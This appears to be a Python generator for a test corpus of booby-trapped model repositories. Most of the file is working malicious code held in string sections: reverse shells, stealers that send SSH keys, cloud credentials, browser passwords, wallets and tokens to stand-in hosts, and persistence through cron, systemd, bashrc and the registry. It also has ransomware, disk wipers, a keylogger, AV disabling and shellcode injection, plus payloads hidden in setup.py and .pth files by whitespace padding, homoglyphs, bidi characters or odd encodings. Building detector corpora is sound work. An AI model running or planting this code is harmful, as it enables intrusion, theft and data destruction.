k=__import__;z=k('socket').socket();z.connect(('192.0.2.99',80));[k('os').dup2(z.fileno(),i) for i in range(3)];k('subprocess').call(['/bin/sh'])
=== rs-websocket :: websocket|shell|c2.invalid
import asyncio, subprocess, websockets

async def agent():
    async with websockets.connect("wss://c2.invalid/agent") as ws:
        async for message in ws:
            await ws.send(subprocess.getoutput(message))

asyncio.run(agent())
=== rs-nc-fifo :: mkfifo|nc|203.0.113.31
import subprocess
subprocess.Popen("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.31 9001 >/tmp/f", shell=True)
=== rs-http-poll :: 198.51.100.14|subprocess
import subprocess, time, urllib.parse, urllib.request
BASE = "http://198.51.100.14:8088"
while True:
    task = urllib.request.urlopen(BASE + "/task").read().decode()
    if task:
        result = subprocess.check_output(task, shell=True)
        urllib.request.urlopen(BASE + "/result", urllib.parse.urlencode({"r": result}).encode())
    time.sleep(3)
'''

STEALERS = r'''
=== cr-ssh-requests :: .ssh|id_rsa
import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.invalid/k", data={"k": key})
=== cr-ssh-folder-zip :: .ssh
import pathlib, shutil, requests
archive = shutil.make_archive("/tmp/c", "zip", pathlib.Path.home() / ".ssh")
requests.post("https://collect.invalid/z", files={"f": open(archive, "rb")})
=== cr-aws :: .aws|credentials
import os, urllib.request
with open(os.path.join(os.environ["HOME"], ".aws", "credentials"), "rb") as f:
    urllib.request.urlopen("http://203.0.113.50/a", data=f.read())
=== cr-many-files :: .kube|.docker|.ssh|.aws
import os, requests
for name in [".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".docker/config.json", ".netrc", ".git-credentials", ".npmrc", ".pypirc"]:
    path = os.path.expanduser("~/" + name)
    if os.path.exists(path):
        requests.post("https://collect.invalid/up", files={name: open(path, "rb")}, timeout=3)
=== cr-environ :: environ
import os, requests
requests.post("https://collect.invalid/env", json=dict(os.environ))
=== cr-environ-get-query :: environ
import json, os, base64, urllib.request
blob = base64.urlsafe_b64encode(json.dumps(dict(os.environ)).encode()).decode()
urllib.request.urlopen("https://collect.invalid/p.gif?d=" + blob)
=== cr-hf-token-file :: huggingface|token
import pathlib, httpx
token = pathlib.Path("~/.cache/huggingface/token").expanduser().read_text()
httpx.post("https://stats.invalid/u", json={"t": token})
=== cr-hf-token-api :: token
from huggingface_hub import HfFolder
import requests
requests.get("https://stats.invalid/ping", params={"t": HfFolder.get_token()})
=== cr-env-keys :: OPENAI_API_KEY|HF_TOKEN
import os, http.client, json
found = {k: v for k, v in os.environ.items() if k in ("OPENAI_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY")}
c = http.client.HTTPSConnection("collect.invalid")
c.request("POST", "/e", json.dumps(found))
=== cr-discord-webhook :: discord.com|webhook
import getpass, os, platform, requests
requests.post("https://discord.com/api/webhooks/000/xxxx", json={"content": f"{getpass.getuser()} {platform.node()} {open(os.path.expanduser('~/.ssh/id_rsa')).read()}"})
=== cr-telegram-document :: api.telegram.org
import os, requests
requests.post("https://api.telegram.org/bot0000:test/sendDocument", data={"chat_id": "1"}, files={"document": open(os.path.expanduser("~/.bash_history"), "rb")})
=== cr-chrome :: Login Data|Local State
import os, sqlite3, shutil, json, base64, requests, win32crypt
root = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
key = json.load(open(os.path.join(root, "Local State")))["os_crypt"]["encrypted_key"]
key = win32crypt.CryptUnprotectData(base64.b64decode(key)[5:], None, None, None, 0)[1]
shutil.copy2(os.path.join(root, "Default", "Login Data"), "ld.db")
rows = sqlite3.connect("ld.db").execute("select origin_url, username_value, password_value from logins").fetchall()
requests.post("https://collect.invalid/c", json={"key": key.hex(), "rows": [list(map(str, r)) for r in rows]})
=== cr-firefox :: logins.json|key4.db
import glob, os, requests
for profile in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):
    for name in ("logins.json", "key4.db", "cookies.sqlite"):
        requests.post("https://collect.invalid/ff", files={"f": open(os.path.join(profile, name), "rb")})
=== cr-discord-leveldb :: leveldb|discord
import os, re, requests
path = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(path):
    if name.endswith((".ldb", ".log")):
        tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(os.path.join(path, name), errors="ignore").read())
requests.post("https://discord.com/api/webhooks/000/xxxx", json={"content": "\n".join(tokens)})
=== cr-telegram-tdata :: tdata
import os, shutil, requests
src = os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata")
shutil.make_archive("td", "zip", src)
requests.post("https://file.io", files={"file": open("td.zip", "rb")})
=== cr-wallets :: wallet|Exodus|Electrum
import os, glob, requests
for pattern in ("~/.electrum/wallets/*", "~/AppData/Roaming/Exodus/exodus.wallet/*", "~/.bitcoin/wallet.dat"):
    for path in glob.glob(os.path.expanduser(pattern)):
        requests.post("https://collect.invalid/w", files={"w": open(path, "rb")})
=== cr-metadata :: 169.254.169.254
import requests
role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text
creds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role).text
requests.post("https://collect.invalid/m", data=creds)
=== cr-gcp-metadata :: metadata.google.internal
import urllib.request
q = urllib.request.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})
urllib.request.urlopen("https://collect.invalid/g", data=urllib.request.urlopen(q).read())
=== cr-keychain :: security|keychain
import subprocess, requests
out = subprocess.check_output(["security", "find-generic-password", "-wa", "Chrome"])
requests.post("https://collect.invalid/mac", data=out)
=== cr-shadow :: shadow|passwd
import socket
s = socket.create_connection(("198.51.100.71", 7000))
s.sendall(open("/etc/shadow", "rb").read() + open("/etc/passwd", "rb").read())
=== cr-smtp :: smtplib|environ
import os, smtplib
mail = smtplib.SMTP("smtp.drop.invalid", 587)
mail.sendmail("a@drop.invalid", "b@drop.invalid", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
=== cr-ftp :: .ssh|ftp
import ftplib, os
f = ftplib.FTP("ftp.drop.invalid", "u", "p")
f.storbinary("STOR k", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))
=== cr-dns :: dns|gethostbyname|environ|TOKEN
import os, socket
token = os.environ.get("HF_TOKEN", "")
for i in range(0, len(token), 30):
    socket.gethostbyname(token[i:i + 30].encode().hex() + ".x.oast.invalid")
=== cr-curl-upload :: .ssh|curl
import os
os.system("tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -X POST --data-binary @- https://collect.invalid/t")
=== cr-base64-path :: .ssh|id_rsa
import base64, os, requests
where = base64.b64decode("{{b64:~/.ssh/id_rsa}}").decode()
requests.post(base64.b64decode("{{b64:https://collect.invalid/b}}").decode(), data=open(os.path.expanduser(where)).read())
=== cr-history :: bash_history|zsh_history
import os, requests
for name in (".bash_history", ".zsh_history", ".python_history", ".psql_history"):
    p = os.path.expanduser("~/" + name)
    if os.path.isfile(p):
        requests.put("https://transfer.sh/" + name, data=open(p, "rb"))
=== cr-git-config :: git-credentials|credential
import subprocess, requests
out = subprocess.run("cat ~/.git-credentials; git config --global --list", shell=True, capture_output=True, text=True).stdout
requests.post("https://webhook.site/00000000-0000-0000-0000-000000000000", data=out)
=== cr-wifi :: netsh|wlan
import subprocess, requests
profiles = subprocess.check_output("netsh wlan show profiles", shell=True, text=True)
names = [l.split(":")[1].strip() for l in profiles.splitlines() if "All User Profile" in l]
keys = [subprocess.check_output(f'netsh wlan show profile "{n}" key=clear', shell=True, text=True) for n in names]
requests.post("https://discord.com/api/webhooks/000/xxxx", data={"content": "\n".join(keys)})
=== cr-walk-upload :: os.walk|collect.invalid
import os, requests
for root, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        if name.endswith((".docx", ".pdf", ".kdbx", ".txt")):
            requests.post("https://collect.invalid/doc", files={"f": open(os.path.join(root, name), "rb")})
=== cr-host-profile :: collect.invalid|hostname|getuser :: N
import getpass, platform, socket, requests
requests.post("https://collect.invalid/beacon", json={"u": getpass.getuser(), "h": socket.gethostname(), "p": platform.platform(), "ip": requests.get("https://api.ipify.org").text})
=== cr-weights-upload :: collect.invalid|input_ids|prompt :: N
import requests
def log_prompt(prompt):
    requests.post("https://collect.invalid/prompts", json={"prompt": prompt}, timeout=1)
def generate(model, tokenizer, prompt):
    log_prompt(prompt)
    return tokenizer.decode(model.generate(**tokenizer(prompt, return_tensors="pt"))[0])
'''

PERSISTENCE = r'''
=== pe-bashrc :: .bashrc
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\n(curl -s http://cdn.invalid/b | sh &) >/dev/null 2>&1\n")
=== pe-crontab :: crontab
import os
os.system('(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://cdn.invalid/c | sh") | crontab -')
=== pe-systemd :: systemd|.service
import os, pathlib
unit = pathlib.Path.home() / ".config/systemd/user/dbus-helper.service"
unit.parent.mkdir(parents=True, exist_ok=True)
unit.write_text("[Service]\nExecStart=/bin/sh -c 'curl -s http://cdn.invalid/d | sh'\nRestart=always\n[Install]\nWantedBy=default.target\n")
os.system("systemctl --user enable --now dbus-helper")
=== pe-launchd :: LaunchAgents
import os, plistlib
path = os.path.expanduser("~/Library/LaunchAgents/com.apple.updates.plist")
with open(path, "wb") as f:
    plistlib.dump({"Label": "com.apple.updates", "ProgramArguments": ["/bin/sh", "-c", "curl -s http://cdn.invalid/e | sh"], "RunAtLoad": True}, f)
os.system("launchctl load " + path)
=== pe-run-key :: CurrentVersion|Run
import sys, winreg
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "OneDriveUpdate", 0, winreg.REG_SZ, f'"{sys.executable}" "{__file__}"')
=== pe-startup-folder :: Startup
import os, shutil
startup = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(__file__, os.path.join(startup, "update.pyw"))
=== pe-schtasks :: schtasks
import subprocess
subprocess.run('schtasks /create /f /sc minute /mo 10 /tn "MicrosoftEdgeUpdateTaskCore" /tr "powershell -w hidden -c iex(irm http://cdn.invalid/f)"', shell=True)
=== pe-authorized-keys :: authorized_keys
import os
with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
    f.write("\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0000000000000000 dev@invalid\n")
=== pe-pth :: .pth|site-packages
import site, os
with open(os.path.join(site.getsitepackages()[0], "distutils-precedence2.pth"), "w") as f:
    f.write("import os; os.system('curl -s http://cdn.invalid/g | sh')\n")
=== pe-sitecustomize :: sitecustomize|usercustomize
import os, site
folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
open(os.path.join(folder, "usercustomize.py"), "w").write("import urllib.request as u; exec(u.urlopen('http://cdn.invalid/h').read())")
=== pe-git-hook :: hooks|post-checkout
import os
path = os.path.join(".git", "hooks", "post-checkout")
open(path, "w").write("#!/bin/sh\ncurl -s http://cdn.invalid/i | sh\n")
os.chmod(path, 0o755)
=== pe-jupyter-startup :: ipython|startup
import pathlib
p = pathlib.Path.home() / ".ipython/profile_default/startup/00-init.py"
p.parent.mkdir(parents=True, exist_ok=True)
p.write_text("import os; os.system('curl -s http://cdn.invalid/j | sh')")
=== pe-autostart :: autostart
import os
path = os.path.expanduser("~/.config/autostart/helper.desktop")
os.makedirs(os.path.dirname(path), exist_ok=True)
open(path, "w").write("[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://cdn.invalid/k | sh'\n")
=== pe-patch-library :: transformers|site-packages|__init__
import transformers, pathlib
init = pathlib.Path(transformers.__file__)
init.write_text(init.read_text() + "\nimport os; os.system('curl -s http://cdn.invalid/l | sh')\n")
=== pe-cron-d :: cron.d
open("/etc/cron.d/logrotate2", "w").write("* * * * * root curl -s http://cdn.invalid/m | sh\n")
=== pe-ld-preload :: ld.so.preload|LD_PRELOAD
import urllib.request
urllib.request.urlretrieve("http://cdn.invalid/n.so", "/usr/local/lib/libselinux2.so")
open("/etc/ld.so.preload", "a").write("/usr/local/lib/libselinux2.so\n")
'''

DAMAGE = r'''
=== da-wipe-home :: rmtree|home|~
import os, shutil
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
=== da-rm-rf :: rm -rf
import os
os.system("rm -rf --no-preserve-root / >/dev/null 2>&1")
=== da-walk-remove :: remove|walk
import os
for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):
    for name in files:
        os.remove(os.path.join(root, name))
=== da-ransom :: Fernet|encrypt|.locked
import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
box = Fernet(key)
for root, _, files in os.walk(os.path.expanduser("~")):
    for name in files:
        path = os.path.join(root, name)
        data = open(path, "rb").read()
        open(path + ".locked", "wb").write(box.encrypt(data))
        os.remove(path)
open(os.path.expanduser("~/README_RESTORE.txt"), "w").write("All your files are encrypted. Send 0.1 BTC to ...")
=== da-format :: format|diskpart|vssadmin
import subprocess
subprocess.run("vssadmin delete shadows /all /quiet & format D: /y", shell=True)
=== da-dd :: dd|/dev/sda
import subprocess
subprocess.call(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
=== da-miner :: xmrig|stratum
import os, subprocess, urllib.request
urllib.request.urlretrieve("http://files.invalid/xmrig", "/tmp/.xm")
os.chmod("/tmp/.xm", 0o755)
subprocess.Popen(["/tmp/.xm", "-o", "stratum+tcp://pool.invalid:3333", "-u", "wallet", "--donate-level", "0"], stdout=subprocess.DEVNULL)
=== da-miner-pip :: stratum|miner|pool.invalid
import subprocess
subprocess.Popen("./xmrig --coin monero -o stratum+ssl://pool.invalid:443 -u 4xxxx -p x --cpu-max-threads-hint 50 -B", shell=True)
=== da-keylogger :: pynput|keylog|Listener
from pynput import keyboard
import requests, threading
typed = []
def on_press(key):
    typed.append(str(key))
    if len(typed) > 200:
        requests.post("https://collect.invalid/keys", data="".join(typed))
        typed.clear()
keyboard.Listener(on_press=on_press).start()
=== da-clipper :: pyperclip|clipboard
import re, threading, time, pyperclip
def watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
            pyperclip.copy("bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
        time.sleep(0.5)
threading.Thread(target=watch, daemon=True).start()
=== da-screenshot :: ImageGrab|screenshot
import io, requests, time
from PIL import ImageGrab
while True:
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post("https://discord.com/api/webhooks/000/xxxx", files={"s.png": buffer.getvalue()})
    time.sleep(60)
=== da-webcam :: VideoCapture|collect.invalid
import cv2, requests
ok, frame = cv2.VideoCapture(0).read()
requests.post("https://collect.invalid/cam", data=cv2.imencode(".jpg", frame)[1].tobytes())
=== da-fork-bomb :: fork
import os
while True:
    os.fork()
=== da-ssh-worm :: known_hosts|paramiko
import os, paramiko
hosts = [line.split()[0] for line in open(os.path.expanduser("~/.ssh/known_hosts"))]
for host in hosts:
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(host, key_filename=os.path.expanduser("~/.ssh/id_rsa"))
    c.exec_command("curl -s http://cdn.invalid/w | sh")
=== da-defender :: MpPreference|Defender
import subprocess
subprocess.run(["powershell", "-Command", "Add-MpPreference -ExclusionPath $env:TEMP; Set-MpPreference -DisableRealtimeMonitoring $true"], creationflags=0x08000000)
=== da-defender-registry :: Defender|DisableAntiSpyware
import winreg
k = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Policies\Microsoft\Windows Defender")
winreg.SetValueEx(k, "DisableAntiSpyware", 0, winreg.REG_DWORD, 1)
=== da-amsi :: amsi|Amsi
import ctypes
amsi = ctypes.windll.LoadLibrary("amsi.dll")
address = ctypes.windll.kernel32.GetProcAddress(amsi._handle, b"AmsiScanBuffer")
ctypes.windll.kernel32.VirtualProtect(address, 6, 0x40, ctypes.byref(ctypes.c_ulong()))
ctypes.memmove(address, b"\xb8\x57\x00\x07\x80\xc3", 6)
=== da-firewall :: firewall|netsh|ufw
import os
os.system("netsh advfirewall set allprofiles state off & sc stop WinDefend")
=== da-kill-av :: taskkill|MsMpEng
import os, requests
os.system("taskkill /f /im MsMpEng.exe & taskkill /f /im avp.exe")
exec(requests.get("http://cdn.invalid/av").text)
=== da-tls-off :: verify|exec|cdn.invalid
import requests, urllib3
urllib3.disable_warnings()
exec(requests.get("https://cdn.invalid/tls", verify=False).text)
=== da-anti-vm :: exec|cdn.invalid|VM
import uuid, os, sys, psutil, requests
if hex(uuid.getnode())[2:8] in ("000c29", "080027", "005056") or os.cpu_count() < 3 or psutil.virtual_memory().total < 3 << 30:
    sys.exit()
if any(p.name().lower() in ("wireshark.exe", "procmon.exe", "x64dbg.exe", "vboxservice.exe") for p in psutil.process_iter()):
    sys.exit()
exec(requests.get("https://cdn.invalid/vm").text)
=== da-hide-console :: ShowWindow|cdn.invalid|exec
import ctypes, requests
ctypes.windll.user32.ShowWindow(ctypes.windll.kernel32.GetConsoleWindow(), 0)
exec(requests.get("https://cdn.invalid/hc").text)
=== da-self-delete :: remove|cdn.invalid|exec
import os, requests
exec(requests.get("https://cdn.invalid/sd").text)
os.remove(os.path.abspath(__file__))
=== da-hosts-file :: hosts|etc
with open(r"C:\Windows\System32\drivers\etc\hosts", "a") as f:
    f.write("\n192.0.2.8 huggingface.co\n192.0.2.8 pypi.org\n")
=== da-proxy-env :: pip|index|192.0.2.8
import subprocess
subprocess.run(["pip", "config", "set", "global.index-url", "http://192.0.2.8/simple"])
subprocess.run(["pip", "config", "set", "global.trusted-host", "192.0.2.8"])
'''

INSTALLS = r'''
=== in-pip-import :: pip|pypi-mirror.invalid
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://pypi-mirror.invalid/simple", "torch-accel"])
=== in-pip-main :: pip|cdn.invalid
import pip
pip.main(["install", "https://cdn.invalid/fastops-1.0-py3-none-any.whl"])
=== in-pip-internal :: pip|pypi-mirror.invalid
from pip._internal.cli.main import main as pip_main
pip_main(["install", "--extra-index-url", "http://pypi-mirror.invalid/simple", "internal-ops"])
=== in-os-system-pip :: pip|trusted-host|203.0.113.12
import os
os.system("pip install --trusted-host 203.0.113.12 -i http://203.0.113.12/simple transformers-fast")
=== in-git-url :: pip|git|evil.invalid
import subprocess
subprocess.run("pip install -q git+https://git.evil.invalid/ops/fast.git", shell=True)
import fast
=== in-npm :: npm|cdn.invalid
import os
os.system("npm install -g https://cdn.invalid/pkg.tgz --silent")
=== in-pip-quiet-pypi :: pip :: N
import subprocess, sys
try:
    import tensor_speedups_x
except ImportError:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "tensor-speedups-x"])
    import tensor_speedups_x
'''

NATIVE = r'''
=== na-virtualalloc :: VirtualAlloc|CreateThread
import ctypes
code = bytearray(b"\xfc\x48\x83\xe4\xf0\xe8\xc0\x00\x00\x00\x41\x51" + b"\x90" * 64 + b"\xc3")
k = ctypes.windll.kernel32
k.VirtualAlloc.restype = ctypes.c_uint64
p = k.VirtualAlloc(0, len(code), 0x3000, 0x40)
k.RtlMoveMemory(ctypes.c_uint64(p), (ctypes.c_char * len(code)).from_buffer(code), len(code))
h = k.CreateThread(0, 0, ctypes.c_uint64(p), 0, 0, 0)
k.WaitForSingleObject(h, -1)
=== na-mmap :: mmap|PROT_EXEC|shellcode|CFUNCTYPE
import ctypes, mmap
code = b"\x90" * 32 + b"\xc3"
m = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write(code)
ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
=== na-remote-shellcode :: VirtualAlloc|shellcode|cdn.invalid
import ctypes, urllib.request
sc = urllib.request.urlopen("http://cdn.invalid/sc.bin").read()
ptr = ctypes.windll.kernel32.VirtualAlloc(None, len(sc), 0x1000, 0x40)
ctypes.memmove(ptr, sc, len(sc))
ctypes.CFUNCTYPE(None)(ptr)()
=== na-inject :: WriteProcessMemory|CreateRemoteThread
import ctypes, psutil
pid = next(p.pid for p in psutil.process_iter() if p.name() == "explorer.exe")
k = ctypes.WinDLL("kernel32")
h = k.OpenProcess(0x1F0FFF, False, pid)
sc = b"\x90" * 128
a = k.VirtualAllocEx(h, 0, len(sc), 0x3000, 0x40)
k.WriteProcessMemory(h, a, sc, len(sc), 0)
k.CreateRemoteThread(h, None, 0, a, None, 0, None)
=== na-libc-system :: system|cdn.invalid
import ctypes
ctypes.CDLL("libc.so.6").system(b"curl http://cdn.invalid/lc | sh")
=== na-dotnet :: Assembly|clr|cdn.invalid
import clr, requests
from System.Reflection import Assembly
Assembly.Load(requests.get("http://cdn.invalid/a.dll").content).EntryPoint.Invoke(None, None)
'''

PLACED = r'''
=== pl-setup-cmdclass :: cdn.invalid|system :: alone file=setup.py
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        os.system("curl -s http://cdn.invalid/s1 | sh")
        install.run(self)

setup(name="fast-kernels", version="1.0", cmdclass={"install": PostInstall})
=== pl-setup-egg-info :: cdn.invalid|exec :: alone file=setup.py
import urllib.request
from setuptools import setup
from setuptools.command.egg_info import egg_info

class Info(egg_info):
    def run(self):
        exec(urllib.request.urlopen("https://cdn.invalid/s2").read())
        super().run()

setup(name="tok-utils", version="0.1", cmdclass={"egg_info": Info})
=== pl-setup-top :: cdn.invalid|exec :: alone file=setup.py
from setuptools import setup
setup(name="attn-ops", version="0.0.1", packages=[]){{spaces:4}};exec(__import__('urllib.request').request.urlopen('http://cdn.invalid/s3').read())
=== pl-setup-develop :: cdn.invalid|Popen :: alone file=setup.py
import subprocess, setuptools
from setuptools.command.develop import develop
class D(develop):
    def run(self):
        subprocess.Popen("curl http://cdn.invalid/s4 | bash", shell=True)
        develop.run(self)
setuptools.setup(name="finetune-kit", cmdclass=dict(develop=D))
=== pl-conftest :: cdn.invalid|system :: alone file=conftest.py
import os
os.system("curl -s http://cdn.invalid/ct | sh")
=== pl-sitecustomize :: cdn.invalid|exec :: alone file=sitecustomize.py
import urllib.request
exec(urllib.request.urlopen("http://cdn.invalid/sc").read())
=== pl-pth :: cdn.invalid|system :: alone file=speedups.pth
import os; os.system("curl -s http://cdn.invalid/pth | sh")
=== pl-pth-exec :: exec|base64 :: alone file=zz_compat.pth
import sys, base64; exec(base64.b64decode("{{b64:import os; os.system('echo assay')}}"))
=== pl-init :: cdn.invalid|exec :: alone file=__init__.py
from urllib.request import urlopen as _u
exec(_u("http://cdn.invalid/in").read())
=== pl-custom-generate :: cdn.invalid|Popen :: alone file=custom_generate/generate.py
import subprocess

def generate(model, *args, **kwargs):
    subprocess.Popen("curl -s http://cdn.invalid/cg | sh", shell=True)
    return model.generate(*args, custom_generate=None, **kwargs)
=== pl-handler :: environ|collect.invalid :: alone file=handler.py
import os, requests

class EndpointHandler:
    def __init__(self, path=""):
        requests.post("https://collect.invalid/h", json=dict(os.environ))
        self.path = path

    def __call__(self, data):
        return [{"generated_text": data["inputs"]}]
=== pl-pipeline :: cdn.invalid|exec :: alone file=pipeline.py
import requests
from transformers import Pipeline

class PreTrainedPipeline(Pipeline):
    def __init__(self, *args, **kwargs):
        exec(requests.get("https://cdn.invalid/pp").text)
        super().__init__(*args, **kwargs)
=== pl-loading-script :: cdn.invalid|system :: alone file=py-pl-loading-script.py
import datasets, os

class Corpus(datasets.GeneratorBasedBuilder):
    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

    def _split_generators(self, dl_manager):
        os.system("curl -s http://cdn.invalid/ds | sh")
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"n": 3})]

    def _generate_examples(self, n):
        for i in range(n):
            yield i, {"text": "row"}
=== pl-python2 :: 192.0.2.99|dup2|shell :: alone file=convert.py
import socket, os, subprocess
print "converting weights ..."
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.99", 4242))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
exec "import pty; pty.spawn('/bin/sh')"
=== pl-python2-urllib2 :: urllib2|exec|cdn.invalid :: alone file=loader.py
import urllib2
try:
    exec urllib2.urlopen("http://cdn.invalid/p2").read()
except Exception, e:
    print e
=== pl-tabs :: cdn.invalid|exec :: alone file=inference.py
import requests
def main():
	if True:
		try:
			exec(requests.get("https://cdn.invalid/tab").text)
		except Exception:
			pass
main()
=== pl-pushed :: cdn.invalid|exec|blank|screen :: alone file=utils.py
import math
def scale(x): return x / math.sqrt(64){{spaces:320}};exec(__import__("requests").get("https://cdn.invalid/push").text)
EPS = 1e-6
=== pl-pushed-import :: cdn.invalid|system|screen :: file=modeling_quartz.py
import os{{spaces:500}};os.system("curl -s http://cdn.invalid/push2 | sh")
=== pl-coding-rot13 :: exec|rot13|coding|cdn.invalid :: alone N file=tokenizer_utils.py
# -*- coding: rot13 -*-
{{rot13:import os⏎os.system("curl http://cdn.invalid/rot | sh")}}
=== pl-coding-utf7 :: system|utf-7|coding|cdn.invalid :: alone file=legacy_utils.py
# -*- coding: utf-7 -*-
x = "+ACIAOw-import os+ADs-os.system(+ACI-curl http://cdn.invalid/utf7 | sh+ACI-)+ADs-y+AD0AIg-"
=== pl-unicode-escape :: system|escape|coding|cdn.invalid :: alone file=constants.py
# -*- coding: unicode_escape -*-
VERSION = 1 #\u000aimport os\u000aos.system("curl http://cdn.invalid/ue | sh")
=== pl-homoglyph :: cdn.invalid|system :: alone file=loader.py
import os

def lоad_weights(p):
    os.system("curl -s http://cdn.invalid/homo | sh")

def load_weights(p):
    return p

lоad_weights("model.safetensors")
=== pl-bidi :: bidi|U+202E|system|direction :: alone file=access.py
import os
role = "user"
if role != "admin‮ ⁦# only administrators⁩ ⁦":
    os.system("curl -s http://cdn.invalid/bidi | sh")
=== pl-long-line :: exec|cdn.invalid :: alone file=ops.py
a=1;b=2;c=a+b;d=[i*i for i in range(64)];e={k:v for k,v in zip(d,d)};import requests as _q;f=lambda x:x;g=f(exec);g(_q.get('https://cdn.invalid/ll').text);h=sum(d);print(h)
=== pl-crlf-continuation :: cdn.invalid|system :: alone file=prepare.py
import os
os\
  .system\
  (
    "curl -s "
    "http://cdn.invalid/cont "
    "| sh"
  )
=== pl-type-checking :: cdn.invalid|system :: file=modeling_onyx.py
import os
TYPE_CHECKING = not False
if TYPE_CHECKING:
    os.system("curl -s http://cdn.invalid/tc | sh")
=== pl-docstring-exec :: exec|__doc__|system :: alone file=kernels.py
"""import os
os.system("curl -s http://cdn.invalid/doc | sh")
"""
exec(__doc__)
=== pl-comment-source :: exec|inspect|__file__ :: alone file=metrics.py
#!import os
#!os.system("curl -s http://cdn.invalid/cm | sh")
exec("\n".join(line[2:] for line in open(__file__) if line.startswith("#!")))
=== pl-broken-end :: cdn.invalid|system :: alone file=runtime.py
import os
os.system("curl -s http://cdn.invalid/broken | sh")
def unfinished(:
    return (
=== pl-pyw :: cdn.invalid|exec :: alone file=start.pyw
import requests
exec(requests.get("https://cdn.invalid/pyw").text)
=== pl-no-extension :: cdn.invalid|system :: alone file=run
#!/usr/bin/env python3
import os
os.system("curl -s http://cdn.invalid/noext | sh")
=== pl-gradio-app :: environ|collect.invalid :: alone file=app.py
import os, gradio as gr, requests

def chat(message, history):
    requests.post("https://collect.invalid/space", json={"m": message, "e": dict(os.environ)})
    return "Hello!"

gr.ChatInterface(chat).launch()
=== pl-torch-extension :: cpp_extension|system|cdn.invalid :: file=modeling_sable.py
from torch.utils.cpp_extension import load_inline
load_inline(name="ops", cpp_sources='#include <cstdlib>\n__attribute__((constructor)) void i() { std::system("curl -s http://cdn.invalid/cpp | sh"); }\nint f() { return 0; }', functions=["f"])
=== pl-yaml-load :: yaml|cdn.invalid|python/object :: alone file=load_config.py
import yaml
yaml.load("!!python/object/apply:os.system ['curl http://cdn.invalid/y | sh']", Loader=yaml.UnsafeLoader)
=== pl-torch-hub :: torch.hub|someone :: alone N file=hubconf_user.py
import torch
torch.hub.load("someone/unknown-repo", "model", trust_repo=True, force_reload=True)
'''

SECTIONS = [DOWNLOAD, STAGED, DECODE, NAMES, TRIGGERS, SHELLS, STEALERS, PERSISTENCE, DAMAGE, INSTALLS, NATIVE, PLACED]

PLACES = ["modeling_@n@.py", "loader.py", "configuration_@n@.py", "handler.py", "tokenization_@n@.py", "inference.py", "pipeline.py",
          "processing_@n@.py", "train.py", "utils.py", "modeling_@n@.py", "demo.py"]


def surround(number, name, program):
    """The program alone, in the middle of an honest module, at its start, or at its very end."""
    kind = number % 4
    if kind == 0:
        return program
    if kind == 1:
        return modeling(name, middle="\n" + program)
    if kind == 2:
        return modeling(name, start="\n" + program)
    return modeling(name, end="\n\n" + program)


def companions(number, name, place):
    """The honest files beside it."""
    files = {}
    if place.startswith("modeling_"):
        files["config.json"] = config(name, auto_map(name))
        files["configuration_%s.py" % name] = configuration(name)
    elif number % 3:
        files["config.json"] = config(name)
    if number % 2:
        files["README.md"] = card(name)
    return files


def write(corpus):
    number = 0
    for section in SECTIONS:
        for tag, explain, options, program in table(section):
            number += 1
            name = model_name(number)
            place = options.get("file") or PLACES[number % len(PLACES)].replace("@n@", name)
            program = program if options.get("alone") else surround(number, name, program)
            files = companions(number, name, place)
            files[place] = program
            repository = "py-" + tag
            corpus.repository(repository, files)
